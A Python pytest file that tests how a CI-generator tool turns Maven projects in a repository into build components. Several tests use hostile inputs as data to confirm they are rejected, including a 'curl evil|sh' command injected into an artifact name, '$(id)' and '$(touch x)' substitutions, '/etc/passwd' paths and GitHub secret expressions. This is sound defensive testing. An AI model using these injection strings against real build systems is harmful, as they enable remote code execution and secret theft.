"""From a repository to components, whatever is in it."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cigen import pins
from cigen.ecosystems import maven
from cigen.ecosystems.maven import manifests
from cigen.plan import Env
from cigen.settings import ComponentSettings, Settings
from tests.ecosystems.maven import projects as p

WRAPPER = {
    "mvnw": "#!/bin/sh\n",
    ".mvn/wrapper/maven-wrapper.properties": "distributionUrl=https://repo.maven.apache.org/x/apache-maven-3.9.11-bin.zip\n",
}


def paths(files: p.Files, settings: Settings | None = None) -> list[str]:
    return [part.path for part in p.inspect(files, settings).components]


def test_nothing_of_maven_is_nothing() -> None:
    found = p.inspect({"build.gradle": "", "README.md": ""})
    assert (found.components, found.findings) == ([], ())


def test_a_single_module() -> None:
    found = p.component({"pom.xml": p.pom(artifact="my-lib")})
    assert (found.name, found.path, found.context, found.workspace) == ("my-lib", ".", ".", None)
    assert found.commands.build == ("mvn -B package -DskipTests",)
    assert found.manifests == ("pom.xml",)


def test_a_wrapper_is_used_and_is_a_manifest() -> None:
    found = p.component({"pom.xml": p.pom(), **WRAPPER})
    assert found.commands.test == ("./mvnw -B verify",)
    assert found.manifests == (".mvn/wrapper/maven-wrapper.properties", "mvnw", "pom.xml")


@pytest.mark.parametrize(
    ("calls", "phase"),
    [
        ((), "verify"),
        (("mvn -B clean test",), "test"),
        (("mvn clean package -D maven.test.skip=true", "./mvnw test \\\n -Pfast"), "test"),
        (("mvn test", "mvn verify -DskipTests=false"), "verify"),
        (("mvn package",), "test"),
        (("mvn -B install --file pom.xml",), "verify"),
        (("mvn install -DskipTests && mvn test",), "test"),
        (("mvn deploy", "mvn compile", "echo mvn"), "verify"),
    ],
)
def test_tests_run_up_to_the_phase_that_pipelines_reach(calls: tuple[str, ...], phase: str) -> None:
    steps = [{"run": call} for call in calls]
    workflow = json.dumps({"jobs": {"build": {"steps": steps}}})
    found = p.component({"pom.xml": p.pom(), ".github/workflows/ci.yml": workflow})
    assert found.commands.test == (f"mvn -B {phase}",)
    assert f" {phase} --fail-at-end" in maven.recipe(found, pins.shipped()).test[0]


PROFILES = "<profiles><profile><id>it</id></profile><profile><id>slow</id></profile></profiles>"


@pytest.mark.parametrize(
    ("call", "words"),
    [
        ("mvn -B verify -Pit", " -Pit verify"),
        ("mvn -P it,unknown verify -DexcludedGroups=slow -Dother=1", " -Pit -DexcludedGroups=slow verify"),
        ("./mvnw -B test -D limit=5 -Dlimits=6 -Drevision=${{ github.ref }}", " -Dlimit=5 test"),
        ("mvn -f pom.xml verify --activate-profiles slow", " -Pslow verify"),
        ("mvn package -DskipTests -Pit && mvn test", " test"),
        ("mvn -f other test -Pit", " test"),
        ("make all", " -Pit verify"),
        ("mvn test -Pslow && mvn verify -Pit", " -Pslow test"),
        ("mvn test && mvn verify -Pit", " -Pit verify"),
    ],
)
def test_profiles_and_properties_of_the_pipeline_that_tests(call: str, words: str) -> None:
    ci = {
        "Makefile": "all:\n\tmvn verify -Pit\n",
        ".github/workflows/ci.yml": f"jobs: {{a: {{steps: [run: '{call}']}}}}",
    }
    found = p.component({"pom.xml": p.pom(f"<properties><x>${{limit}}</x></properties>{PROFILES}"), **ci})
    assert found.commands.test == (f"mvn -B{words}",)
    recipe = maven.recipe(found, pins.shipped())
    told = dict(value for step in recipe.setup if isinstance(step, Env) for value in step.values)
    assert ('-P "$PROFILES"' in recipe.test[0]) == ("-P" in words)
    assert f"-P{told['PROFILES']}" in words if "-P" in words else "PROFILES" not in told
    assert told.get("PROPERTIES", "").split() == [word for word in words.split() if word.startswith("-D")]
    assert recipe.build[0].startswith("xargs -a /opt/maven.properties " if "-D" in words else "mvn ")


def test_what_a_profile_of_the_pipeline_adds_is_built() -> None:
    profile = "<profiles><profile><id>all</id><modules><module>b</module></modules></profile></profiles>"
    files = {"pom.xml": p.pom(profile, packaging="pom"), "b/pom.xml": p.pom(artifact="b")}
    ci = {".github/workflows/ci.yml": "jobs: {a: {steps: [run: mvn -Pall test]}}"}
    found = p.component({**files, **ci})
    assert found.commands.test == ("mvn -B -Pall test",)


def test_a_module_may_need_the_archive_of_another_for_its_tests() -> None:
    files = {
        "pom.xml": p.pom("<packaging>pom</packaging><modules><module>a</module></modules>"),
        "a/pom.xml": p.pom(artifact="a"),
        ".gitlab-ci.yml": "test: {script: [mvn package]}",
    }
    assert p.component(files).commands.test == ("mvn -B package",)


def test_a_wrapper_above_widens_the_context() -> None:
    found = p.component({"a/b/pom.xml": p.pom(), **WRAPPER})
    assert (found.path, found.context) == ("a/b", ".")
    assert found.commands.build == ("../../mvnw -B package -DskipTests",)


@pytest.mark.parametrize(
    "url",
    [
        "",
        "http://example.com/maven.zip",
        "file:///etc/passwd",
        "https://x/a.zip\\\n",
        "https://x/$(id).zip",
        "https://u:p@x/a.zip",
    ],
)
def test_a_wrapper_that_cannot_be_trusted_is_not_used(url: str) -> None:
    files = {"pom.xml": p.pom(), "mvnw": "", ".mvn/wrapper/maven-wrapper.properties": f"distributionUrl={url}\n"}
    assert p.component(files).commands.build == ("mvn -B package -DskipTests",)
    assert p.codes(files) == ["wrapper-unusable"]


def test_maven_4_needs_java_17() -> None:
    properties = "distributionUrl=https\\://repo.maven.apache.org/x/apache-maven-4.0.0-rc-5-bin.zip"
    files = {"pom.xml": p.pom(p.properties(maven__compiler__target="8")), **WRAPPER}
    files[".mvn/wrapper/maven-wrapper.properties"] = properties
    assert p.component(files).runtime.version == "17"


def test_parents_beside_a_component_widen_its_context_and_are_manifests() -> None:
    files = {
        "shared/parent/pom.xml": p.pom(packaging="pom", artifact="parent"),
        "shared/app/pom.xml": p.pom(parent=p.reference("parent", path="../parent")),
    }
    found = p.component(files)
    assert (found.path, found.context) == ("shared/app", "shared")
    assert found.manifests == ("shared/app/pom.xml", "shared/parent/pom.xml")


def test_several_components_and_one_that_needs_another() -> None:
    files = {
        "lib/pom.xml": p.pom(artifact="lib"),
        "web/pom.xml": p.pom(p.dependencies(p.dependency("com.example:lib", version="1")), artifact="web"),
        "other/pom.xml": p.pom(p.dependencies(p.dependency("com.example:lib", version="0.9")), artifact="other"),
    }
    assert paths(files) == ["lib", "other", "web"]
    (finding,) = [item for item in p.inspect(files).findings if item.code == "needs-component"]
    assert finding.file == "web/pom.xml"


def test_a_module_that_a_reactor_builds_itself_is_not_needed_of_another_that_builds_one_of_the_same_name() -> None:
    library = p.pom(artifact="lib")
    files = {
        "complete/pom.xml": p.pom(p.modules("lib", "web"), packaging="pom", artifact="complete"),
        "complete/lib/pom.xml": library,
        "complete/web/pom.xml": p.pom(p.dependencies(p.dependency("com.example:lib", version="1")), artifact="web"),
        "initial/pom.xml": p.pom(p.modules("lib"), packaging="pom", artifact="initial"),
        "initial/lib/pom.xml": library,
    }
    assert paths(files) == ["complete", "initial"]
    assert "needs-component" not in {item.code for item in p.inspect(files).findings}


@pytest.mark.parametrize(
    "place",
    [
        "src/it/simple", "src/test/resources/project", "src/main/resources/archetype-resources", "x/fixtures/a",
        "vendor/lib", "testdata/p", "target/generated", "old/classes/META-INF/maven/org.x/y",
    ],
)  # fmt: skip
def test_material_of_tests_is_no_component_and_not_even_read(place: str) -> None:
    assert paths({"pom.xml": p.pom(), f"{place}/pom.xml": "<broken"}) == ["."]


@pytest.mark.parametrize("place", ["examples/one", "samples/a/b", "docs/project"])
def test_examples_are_components_only_alone_or_when_asked_for(place: str) -> None:
    files = {"pom.xml": p.pom(), f"{place}/pom.xml": p.pom(artifact="example")}
    assert paths(files) == ["."]
    assert p.codes(files) == ["left-out"]
    assert paths({f"{place}/pom.xml": p.pom()}) == [place]
    assert paths(files, Settings(components={place: ComponentSettings(name="x")})) == [".", place]


def test_examples_that_are_modules_belong_to_the_reactor() -> None:
    files = {
        "pom.xml": p.pom(p.modules("examples/one"), packaging="pom"),
        "examples/one/pom.xml": p.pom(artifact="one"),
    }
    assert p.component(files).manifests == ("examples/one/pom.xml", "pom.xml")


def test_what_the_user_excludes() -> None:
    assert paths({"pom.xml": p.pom(), "old/pom.xml": p.pom()}, Settings(exclude=("old",))) == ["."]


@pytest.mark.parametrize(
    "content", ["", "<project>", "<project><a></b></project>", "\0", "<html/>", "<!DOCTYPE x><project/>"]
)
def test_a_broken_pom_is_an_error_with_a_place_and_the_others_live(content: str) -> None:
    files = {"a/pom.xml": content, "b/pom.xml": p.pom()}
    found = p.inspect(files)
    assert [part.path for part in found.components] == ["b"]
    (finding,) = found.findings
    assert (finding.code, finding.severity, finding.file) == ("broken-pom", "error", "a/pom.xml")
    assert finding.line
    assert f"a/pom.xml:{finding.line}:" in finding.message


def test_a_broken_module_leaves_out_its_reactor() -> None:
    files = {"pom.xml": p.pom(p.modules("a"), packaging="pom"), "a/pom.xml": "<project"}
    assert paths(files) == []
    assert p.codes(files) == ["broken-pom"]


@pytest.mark.parametrize(
    "content", ["<a>" * 200_000, "<project>" + "<x/>" * 250_000, "<project>" + "<modules>" * 100_000]
)
def test_too_much_is_an_error_and_quick(content: str) -> None:
    assert p.codes({"pom.xml": content}) == ["broken-pom"]


@pytest.mark.parametrize("name", ["a ", " a", "$(touch x)", "${{github.token}}", "a;b", "a:b", "-x", "ü", "a" * 1000])
def test_paths_that_cannot_be_written_safely_are_left_out_with_an_error(name: str) -> None:
    files = {f"{name}/pom.xml": p.pom(), "ok/pom.xml": p.pom()}
    assert paths(files) == ["ok"]
    assert p.codes(files) == ["unsafe-path"]


@pytest.mark.parametrize("name", ["a]]&gt;&lt;b", "x&quot;;curl evil|sh;&quot;", "${{ secrets.X }}", "", "a" * 200])
def test_hostile_names_are_not_taken(name: str) -> None:
    files = {"svc/pom.xml": p.pom(artifact=name)}
    assert p.component(files).name == "svc"
    assert "name-replaced" in p.codes(files)


def test_settings_and_local_jars_are_manifests() -> None:
    jar = "<scope>system</scope><systemPath>${project.basedir}/lib/x.jar</systemPath>"
    repositories = (
        "<repositories><repository><id>l</id><url>file://${project.basedir}/repo</url></repository></repositories>"
    )
    files: dict[str, str | bytes] = {
        "pom.xml": p.pom(p.dependencies(p.dependency("g:x", more=jar)) + repositories),
        "lib/x.jar": b"",
        "repo/g/y/1/y.jar": b"",
        ".mvn/maven.config": "-s\n.mvn/settings.xml\n-gs ../../../etc/passwd",
        ".mvn/settings.xml": "<settings/>",
        ".mvn/jvm.config": "",
        ".mvn/extensions.xml": "",
    }
    assert set(p.component(files).manifests) == set(files)


def test_a_front_end_has_manifests_too() -> None:
    frontend = p.plugin(
        "frontend-maven-plugin", "<workingDirectory>src/main/web</workingDirectory>", group="com.github.eirslett"
    )
    files = {
        "pom.xml": p.pom(p.build(frontend)),
        "src/main/web/package.json": "{}",
        "src/main/web/package-lock.json": "{}",
        "src/main/web/.npmrc": "",
        "src/main/web/index.js": "",
        "other/package.json": "{}",
    }
    assert p.component(files).manifests == (
        "pom.xml", "src/main/web/.npmrc", "src/main/web/package-lock.json", "src/main/web/package.json",
    )  # fmt: skip


def test_npm_run_by_the_exec_plugin() -> None:
    run = p.plugin("exec-maven-plugin", "<executable>npm</executable>"
                   "<workingDirectory>${project.basedir}/ui</workingDirectory>",
                   group="org.codehaus.mojo")  # fmt: skip
    assert p.component({"pom.xml": p.pom(p.build(run)), "ui/package.json": ""}).manifests == (
        "pom.xml",
        "ui/package.json",
    )


def test_services_of_testcontainers() -> None:
    body = p.dependencies(
        "org.testcontainers:postgresql", "org.testcontainers:testcontainers-kafka", "org.testcontainers:junit-jupiter"
    )
    files = {"pom.xml": p.pom(body)}
    assert [service.name for service in p.component(files).services] == ["kafka", "postgres"]
    assert p.codes(files) == ["tests-need-engine"]


def test_services_of_a_compose_file_only_for_clients() -> None:
    files = {
        "pom.xml": p.pom(p.dependencies("org.postgresql:postgresql")),
        "compose.yml": "services:\n  db:\n    image: postgres:17\n  cache:\n    image: redis:8\n",
    }
    (service,) = p.component(files).services
    assert (service.name, service.source.file, service.source.line) == ("postgres", "compose.yml", 3)


@given(st.text(alphabet="<>/ab&;${}\n\"'=projectmodules.", max_size=200))
def test_any_pom_gives_components_or_findings(text: str) -> None:
    found = p.inspect({"pom.xml": text})
    assert found.components or found.findings


@given(st.text(max_size=30))
def test_any_value_stays_within_the_grammar(value: str) -> None:
    from xml.sax.saxutils import escape

    if not value.isprintable():
        return
    inner = escape(value)
    text = p.pom(
        p.modules(inner) + p.properties(java__version=inner) + p.dependencies(p.dependency("g:a", version=inner)),
        artifact=inner,
    )
    for part in p.inspect({"x/pom.xml": text}).components:
        assert all(manifests.is_safe(path) for path in part.manifests)
        assert part.runtime.version in {"8", "11", "17", "21", "25"}


def test_a_plugin_that_the_reactor_makes_has_stand_ins_for_its_goals_while_downloading() -> None:
    uses = (
        "<build><plugins><plugin><groupId>com.example</groupId><artifactId>tool</artifactId><executions><execution>"
        "<goals><goal>stamp</goal><goal>$(evil)</goal></goals></execution></executions></plugin></plugins></build>"
    )
    modules = "<modules><module>tool</module><module>a</module></modules>"
    files = {
        "pom.xml": p.pom(modules, packaging="pom", artifact="root"),
        "tool/pom.xml": p.pom(artifact="tool", packaging="maven-plugin"),
        "a/pom.xml": p.pom(uses, artifact="a"),
    }
    recipe = maven.recipe(p.component(files), pins.shipped())
    assert "'OWN_GOALS', 'tool/stamp'" in str(recipe.deps)
    assert "@goal ${file##*/}" in str(recipe.deps)
    assert "OWN_GOALS" not in str(maven.recipe(p.component({"pom.xml": p.pom(uses)}), pins.shipped()).deps)
